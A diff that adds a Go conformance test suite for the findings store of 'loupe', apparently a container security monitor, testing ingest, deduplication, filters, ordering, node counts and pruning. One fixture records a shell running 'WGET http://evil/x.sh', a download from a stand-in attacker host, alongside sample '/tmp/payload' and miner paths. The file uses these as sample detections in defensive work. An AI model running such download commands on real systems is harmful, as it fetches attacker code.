@@ -1,0 +1,359 @@
+package storetest
+
+import (
+	"context"
+	"errors"
+	"slices"
+	"sort"
+	"testing"
+	"time"
+
+	"google.golang.org/protobuf/proto"
+	"google.golang.org/protobuf/types/known/timestamppb"
+
+	loupev1 "github.com/loupe-dev/loupe/api/v1"
+	"github.com/loupe-dev/loupe/collector/store"
+)
+
+// Run runs the conformance suite against stores made by open (a fresh,
+// empty store for each call).
+func Run(t *testing.T, open func(t *testing.T) store.Store) {
+	t.Run("IngestQueryRoundTrip", func(t *testing.T) { testRoundTrip(t, open(t)) })
+	t.Run("Idempotent", func(t *testing.T) { testIdempotent(t, open(t)) })
+	t.Run("Filters", func(t *testing.T) { testFilters(t, open(t)) })
+	t.Run("OrderAndLimit", func(t *testing.T) { testOrderLimit(t, open(t)) })
+	t.Run("Nodes", func(t *testing.T) { testNodes(t, open(t)) })
+	t.Run("Prune", func(t *testing.T) { testPrune(t, open(t)) })
+	t.Run("InvalidQuery", func(t *testing.T) { testInvalid(t, open(t)) })
+}
+
+// QueryAll runs q and returns every finding.
+func QueryAll(t testing.TB, s store.Store, q *loupev1.QueryRequest) []*loupev1.Finding {
+	t.Helper()
+	var out []*loupev1.Finding
+	if err := s.Query(context.Background(), q, func(f *loupev1.Finding) error {
+		out = append(out, f)
+		return nil
+	}); err != nil {
+		t.Fatalf("query %v: %v", q, err)
+	}
+	return out
+}
+
+func ids(fs []*loupev1.Finding) []string {
+	out := make([]string, len(fs))
+	for i, f := range fs {
+		out[i] = f.GetId()
+	}
+	return out
+}
+
+func mustIngest(t *testing.T, s store.Store, node string, fs ...*loupev1.Finding) store.IngestResult {
+	t.Helper()
+	res, err := s.Ingest(context.Background(), store.NodeInfo{Name: node, AgentVersion: "v1.2.3", Seen: time.Now()}, fs)
+	if err != nil {
+		t.Fatalf("ingest: %v", err)
+	}
+	return res
+}
+
+var t0 = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
+
+func testRoundTrip(t *testing.T, s store.Store) {
+	rng := newRand(1)
+	var in []*loupev1.Finding
+	for i := range 20 {
+		in = append(in, Realistic(rng, t0.Add(time.Duration(i)*time.Second), "node-a"))
+	}
+	res := mustIngest(t, s, "node-a", in...)
+	if res.Stored != 20 || res.Duplicates != 0 || len(res.Inserted) != 20 {
+		t.Fatalf("ingest result = %+v, want 20 stored", res)
+	}
+	got := QueryAll(t, s, &loupev1.QueryRequest{Order: loupev1.Order_ORDER_OLDEST_FIRST})
+	if len(got) != 20 {
+		t.Fatalf("query returned %d findings, want 20", len(got))
+	}
+	for i := range in {
+		if !proto.Equal(in[i], got[i]) {
+			t.Fatalf("finding %d changed in the store:\n in: %v\nout: %v", i, in[i], got[i])
+		}
+	}
+}
+
+func testIdempotent(t *testing.T, s store.Store) {
+	a := Finding(t0, "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH)
+	b := Finding(t0.Add(time.Second), "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO)
+	if res := mustIngest(t, s, "n1", a, b); res.Stored != 2 {
+		t.Fatalf("first ingest stored %d, want 2", res.Stored)
+	}
+	// The same batch again (an agent retrying after a lost ack), plus a new
+	// finding and a duplicate inside the batch.
+	c := Finding(t0.Add(2*time.Second), "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO)
+	changed := proto.Clone(a).(*loupev1.Finding)
+	changed.Summary = "a different summary under the same id"
+	res := mustIngest(t, s, "n1", changed, b, c, c)
+	if res.Stored != 1 || res.Duplicates != 3 {
+		t.Fatalf("re-ingest = stored %d duplicates %d, want 1 and 3", res.Stored, res.Duplicates)
+	}
+	if want := []bool{false, false, true, false}; !slices.Equal(res.Inserted, want) {
+		t.Fatalf("Inserted = %v, want %v", res.Inserted, want)
+	}
+	got := QueryAll(t, s, &loupev1.QueryRequest{Order: loupev1.Order_ORDER_OLDEST_FIRST})
+	if len(got) != 3 {
+		t.Fatalf("store holds %d findings, want 3", len(got))
+	}
+	if got[0].GetSummary() != a.GetSummary() {
+		t.Fatalf("a duplicate overwrote the stored finding: %q", got[0].GetSummary())
+	}
+	nodes, err := s.Nodes(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(nodes) != 1 || nodes[0].GetFindings() != 3 {
+		t.Fatalf("nodes = %v, want n1 with 3 findings (duplicates not counted)", nodes)
+	}
+}
+
+// filterSet is a dataset where every filter selects a known subset.
+func filterSet() []*loupev1.Finding {
+	mk := func(sec int, node string, kind loupev1.Kind, sev loupev1.Severity, ns, pod, cid, image string) *loupev1.Finding {
+		f := Finding(t0.Add(time.Duration(sec)*time.Second), node, kind, sev)
+		f.Container = &loupev1.ContainerRef{Id: cid, Namespace: ns, Pod: pod, Image: image, Name: "app"}
+		return f
+	}
+	fs := []*loupev1.Finding{
+		0: mk(0, "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH, "payments", "api-7d4f-abc", "aaaa1111", "registry.example.com/payments/api:v1"),
+		1: mk(10, "n1", loupev1.Kind_KIND_EXEC_FAILED, loupev1.Severity_SEVERITY_MEDIUM, "payments", "api-7d4f-def", "aaaa2222", "registry.example.com/payments/api:v2"),
+		2: mk(20, "n2", loupev1.Kind_KIND_PACKAGE, loupev1.Severity_SEVERITY_INFO, "search", "worker-1", "bbbb1111", "docker.io/library/alpine:3.20"),
+		3: mk(30, "n2", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_CRITICAL, "search", "worker-2", "bbbb2222", "gcr.io/distroless/static"),
+		4: mk(40, "n3", loupev1.Kind_KIND_DRIFT_FILE, loupev1.Severity_SEVERITY_LOW, "default", "web[1]?x", "cccc1111", "nginx:1.27"),
+	}
+	fs[0].Process = &loupev1.Process{Filename: "/bin/sh", Argv: []string{"/bin/sh", "-c", "WGET http://evil/x.sh"}}
+	fs[1].Process = &loupev1.Process{Filename: "/bin/bash", Argv: []string{"bash"}, Errno: 2}
+	fs[2].Package = &loupev1.Package{Name: "OpenSSL", Version: "3.0.1"}
+	fs[3].File = &loupev1.File{Path: "/tmp/payload", Sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}
+	fs[3].Summary = "shell spawned by a Wget download"
+	fs[4].File = &loupev1.File{Path: "/usr/local/bin/miner", Sha256: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"}
+	return fs
+}
+
+func testFilters(t *testing.T, s store.Store) {
+	fs := filterSet()
+	mustIngest(t, s, "n1", fs...)
+	ts := func(sec int) *timestamppb.Timestamp { return timestamppb.New(t0.Add(time.Duration(sec) * time.Second)) }
+	cases := []struct {
+		name string
+		q    *loupev1.QueryRequest
+		want []int
+	}{
+		{"all", &loupev1.QueryRequest{}, []int{0, 1, 2, 3, 4}},
+		{"since", &loupev1.QueryRequest{Since: ts(20)}, []int{2, 3, 4}},
+		{"until is exclusive", &loupev1.QueryRequest{Until: ts(20)}, []int{0, 1}},
+		{"time range", &loupev1.QueryRequest{Since: ts(10), Until: ts(31)}, []int{1, 2, 3}},
+		{"one kind", &loupev1.QueryRequest{Kinds: []loupev1.Kind{loupev1.Kind_KIND_SHELL_EXEC}}, []int{0, 3}},
+		{"kinds", &loupev1.QueryRequest{Kinds: []loupev1.Kind{loupev1.Kind_KIND_EXEC_FAILED, loupev1.Kind_KIND_DRIFT_FILE}}, []int{1, 4}},
+		{"min severity", &loupev1.QueryRequest{MinSeverity: loupev1.Severity_SEVERITY_HIGH}, []int{0, 3}},
+		{"min severity info is everything", &loupev1.QueryRequest{MinSeverity: loupev1.Severity_SEVERITY_INFO}, []int{0, 1, 2, 3, 4}},
+		{"nodes", &loupev1.QueryRequest{Nodes: []string{"n2", "n3"}}, []int{2, 3, 4}},
+		{"namespace", &loupev1.QueryRequest{Namespace: "payments"}, []int{0, 1}},
+		{"pod exact", &loupev1.QueryRequest{Pod: "worker-1"}, []int{2}},
+		{"pod glob", &loupev1.QueryRequest{Pod: "api-*"}, []int{0, 1}},
+		{"pod glob middle", &loupev1.QueryRequest{Pod: "*-7d4f-d*"}, []int{1}},
+		{"pod glob metacharacters are literal", &loupev1.QueryRequest{Pod: "web[1]?*"}, []int{4}},
+		{"pod glob ? is literal", &loupev1.QueryRequest{Pod: "web?1*"}, nil},
+		{"container prefix", &loupev1.QueryRequest{ContainerId: "aaaa"}, []int{0, 1}},
+		{"container full id", &loupev1.QueryRequest{ContainerId: "bbbb2222"}, []int{3}},
+		{"image exact", &loupev1.QueryRequest{Image: "nginx:1.27"}, []int{4}},
+		{"image glob", &loupev1.QueryRequest{Image: "registry.example.com/payments/*"}, []int{0, 1}},
+		{"image glob suffix", &loupev1.QueryRequest{Image: "*:3.20"}, []int{2}},
+		{"sha256", &loupev1.QueryRequest{Sha256: "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"}, []int{3}},
+		{"sha256 with prefix", &loupev1.QueryRequest{Sha256: "sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"}, []int{4}},
+		{"grep argv case-insensitive", &loupev1.QueryRequest{Grep: "wget"}, []int{0, 3}},
+		{"grep filename", &loupev1.QueryRequest{Grep: "/bin/bash"}, []int{1}},
+		{"grep file path", &loupev1.QueryRequest{Grep: "MINER"}, []int{4}},
+		{"grep package", &loupev1.QueryRequest{Grep: "openssl"}, []int{2}},
+		{"grep no match", &loupev1.QueryRequest{Grep: "nothing-like-this"}, nil},
+		{"combined", &loupev1.QueryRequest{Namespace: "search", MinSeverity: loupev1.Severity_SEVERITY_HIGH, Kinds: []loupev1.Kind{loupev1.Kind_KIND_SHELL_EXEC}, Since: ts(1)}, []int{3}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			c.q.Order = loupev1.Order_ORDER_OLDEST_FIRST
+			got := ids(QueryAll(t, s, c.q))
+			var want []string
+			for _, i := range c.want {
+				want = append(want, fs[i].GetId())
+			}
+			if !slices.Equal(got, want) {
+				t.Fatalf("got %v\nwant %v", got, want)
+			}
+		})
+	}
+}
+
+func testOrderLimit(t *testing.T, s store.Store) {
+	var in []*loupev1.Finding
+	for i := range 50 {
+		// Shuffled times: storage order must not decide result order.
+		sec := (i * 37) % 50
+		in = append(in, Finding(t0.Add(time.Duration(sec)*time.Second), "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO))
+	}
+	mustIngest(t, s, "n1", in...)
+	times := func(fs []*loupev1.Finding) []int64 {
+		out := make([]int64, len(fs))
+		for i, f := range fs {
+			out[i] = f.GetTime().AsTime().UnixNano()
+		}
+		return out
+	}
+	newest := QueryAll(t, s, &loupev1.QueryRequest{})
+	if len(newest) != 50 || !sort.SliceIsSorted(newest, func(i, j int) bool { return newest[i].GetTime().AsTime().After(newest[j].GetTime().AsTime()) }) {
+		t.Fatalf("default order is not newest first: %v", times(newest))
+	}
+	oldest := QueryAll(t, s, &loupev1.QueryRequest{Order: loupev1.Order_ORDER_OLDEST_FIRST, Limit: 7})
+	if len(oldest) != 7 {
+		t.Fatalf("limit 7 returned %d", len(oldest))
+	}
+	for i, f := range oldest {
+		if want := t0.Add(time.Duration(i) * time.Second); !f.GetTime().AsTime().Equal(want) {
+			t.Fatalf("oldest-first #%d at %v, want %v", i, f.GetTime().AsTime(), want)
+		}
+	}
+	top := QueryAll(t, s, &loupev1.QueryRequest{Order: loupev1.Order_ORDER_NEWEST_FIRST, Limit: 3})
+	if len(top) != 3 || !top[0].GetTime().AsTime().Equal(t0.Add(49*time.Second)) {
+		t.Fatalf("newest-first limit 3 = %v", times(top))
+	}
+	// Stopping early: an error from the callback ends the query and is returned.
+	stop := errors.New("stop")
+	n := 0
+	err := s.Query(context.Background(), &loupev1.QueryRequest{}, func(*loupev1.Finding) error {
+		n++
+		if n == 5 {
+			return stop
+		}
+		return nil
+	})
+	if !errors.Is(err, stop) || n != 5 {
+		t.Fatalf("callback error: got %v after %d findings, want stop after 5", err, n)
+	}
+	// Default limit.
+	var many []*loupev1.Finding
+	for i := range store.DefaultLimit + 10 {
+		many = append(many, Finding(t0.Add(time.Hour+time.Duration(i)*time.Millisecond), "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO))
+	}
+	mustIngest(t, s, "n1", many...)
+	if got := QueryAll(t, s, &loupev1.QueryRequest{}); len(got) != store.DefaultLimit {
+		t.Fatalf("limit 0 returned %d, want the default %d", len(got), store.DefaultLimit)
+	}
+}
+
+func testNodes(t *testing.T, s store.Store) {
+	ctx := context.Background()
+	if nodes, err := s.Nodes(ctx); err != nil || len(nodes) != 0 {
+		t.Fatalf("empty store: nodes %v, err %v", nodes, err)
+	}
+	seen1 := time.Now().Add(-time.Minute).Truncate(time.Microsecond)
+	fs := []*loupev1.Finding{
+		Finding(t0, "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH),
+		Finding(t0, "n1", loupev1.Kind_KIND_SHELL_EXEC, loupev1.Severity_SEVERITY_HIGH),
+		Finding(t0, "n1", loupev1.Kind_KIND_PACKAGE, loupev1.Severity_SEVERITY_INFO),
+	}
+	if _, err := s.Ingest(ctx, store.NodeInfo{Name: "n1", AgentVersion: "v1", Seen: seen1}, fs); err != nil {
+		t.Fatal(err)
+	}
+	seen2 := seen1.Add(30 * time.Second)
+	if _, err := s.Ingest(ctx, store.NodeInfo{Name: "n1", AgentVersion: "v2", Seen: seen2}, []*loupev1.Finding{Finding(t0, "n1", loupev1.Kind_KIND_EXEC, loupev1.Severity_SEVERITY_INFO)}); err != nil {
+		t.Fatal(err)
+	}
+	// An empty batch (a heartbeat) from another node registers it.
+	if _, err := s.Ingest(ctx, store.NodeInfo{Name: "n0", AgentVersion: "v1", Seen: seen2}, nil); err != nil {
+		t.Fatal(err)
+	}
+	// A replay of another node's findings by an admin client counts them
+	// under their own node.
+	if _, err := s.Ingest(ctx, store.NodeInfo{Name: "admin"}, []*loupev1.Finding{Finding(t0, "n9", loupev1.Kind_KIND_SUID, loupev1.Severity_SEVERITY_LOW)}); err != nil {
+		t.Fatal(err)
+	}
+	nodes, err := s.Nodes(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, n := range nodes {
+		names = append(names, n.GetName())
+	}
+	if !slices.Equal(names, []string{"admin", "n0", "n1", "n9"}) {
+		t.Fatalf("nodes = %v", names)
+	}
+	n1 := nodes[2]
+	if n1.GetAgentVersion() != "v2" || n1.GetFindings() != 4 {
+		t.Fatalf("n1 = %v, want version v2 and 4 findings", n1)
+	}
+	if !n1.GetFirstSeen().AsTime().Equal(seen1) || !n1.GetLastSeen().AsTime().Equal(seen2) {
+		t.Fatalf("n1 first/last seen = %v / %v, want %v / %v", n1.GetFirstSeen().AsTime(), n1.GetLastSeen().AsTime(), seen1, seen2)
+	}
+	wantKinds := map[string]int64{"SHELL_EXEC": 2, "PACKAGE": 1, "EXEC": 1}
+	if len(n1.GetFindingsByKind()) != len(wantKinds) {
+		t.Fatalf("n1 by kind = %v, want %v", n1.GetFindingsByKind(), wantKinds)
+	}
+	for k, v := range wantKinds {
+		if n1.GetFindingsByKind()[k] != v {
+			t.Fatalf("n1 by kind = %v, want %v", n1.GetFindingsByKind(), wantKinds)
+		}
+	}
+	if n9 := nodes[3]; n9.GetFindings() != 1 || n9.GetFindingsByKind()["SUID"] != 1 || !n9.GetLastSeen().AsTime().Equal(t0) {
+		t.Fatalf("n9 = %v, want 1 SUID finding last seen at its finding time", n9)
+	}
+	if nodes[1].GetFindings() != 0 || nodes[0].GetFindings() != 0 {
+		t.Fatalf("n0/admin should have no findings: %v %v", nodes[0], nodes[1])
+	}
+}
+
+func testPrune(t *testing.T, s store.Store) {
+	ctx := context.Background()
+	var in []*loupev1.Finding
+	for i := range 12000 { // more than one prune batch
+		k := loupev1.Kind_KIND_EXEC
+		if i%2 == 0 {
+			k = loupev1.Kind_KIND_PACKAGE
+		}
+		in = append(in, Finding(t0.Add(time.Duration(i)*time.Second), "n1", k, loupev1.Severity_SEVERITY_INFO))
+	}
+	mustIngest(t, s, "n1", in...)
+	cut := t0.Add(11000 * time.Second)
+	n, err := s.Prune(ctx, cut)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n != 11000 {
+		t.Fatalf("pruned %d, want 11000", n)
+	}
+	left := QueryAll(t, s, &loupev1.QueryRequest{Limit: store.MaxLimit, Order: loupev1.Order_ORDER_OLDEST_FIRST})
+	if len(left) != 1000 || !left[0].GetTime().AsTime().Equal(cut) {
+		t.Fatalf("after prune: %d findings, first at %v; want 1000 from %v", len(left), left[0].GetTime().AsTime(), cut)
+	}
+	nodes, err := s.Nodes(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if nodes[0].GetFindings() != 1000 || nodes[0].GetFindingsByKind()["EXEC"] != 500 || nodes[0].GetFindingsByKind()["PACKAGE"] != 500 {
+		t.Fatalf("node counts after prune = %v", nodes[0])
+	}
+	if n, err := s.Prune(ctx, cut); err != nil || n != 0 {
+		t.Fatalf("second prune = %d, %v; want 0", n, err)
+	}
+}
+
+func testInvalid(t *testing.T, s store.Store) {
+	for name, q := range map[string]*loupev1.QueryRequest{
+		"short container prefix": {ContainerId: "abc"},
+		"limit too large":        {Limit: store.MaxLimit + 1},
+		"unknown kind":           {Kinds: []loupev1.Kind{99}},
+		"unspecified kind":       {Kinds: []loupev1.Kind{0}},
+		"bad since":              {Since: &timestamppb.Timestamp{Seconds: -1 << 62}},
+	} {
+		err := s.Query(context.Background(), q, func(*loupev1.Finding) error { return nil })
+		if !errors.Is(err, store.ErrInvalidQuery) {
+			t.Errorf("%s: err = %v, want ErrInvalidQuery", name, err)
+		}
+	}
+}
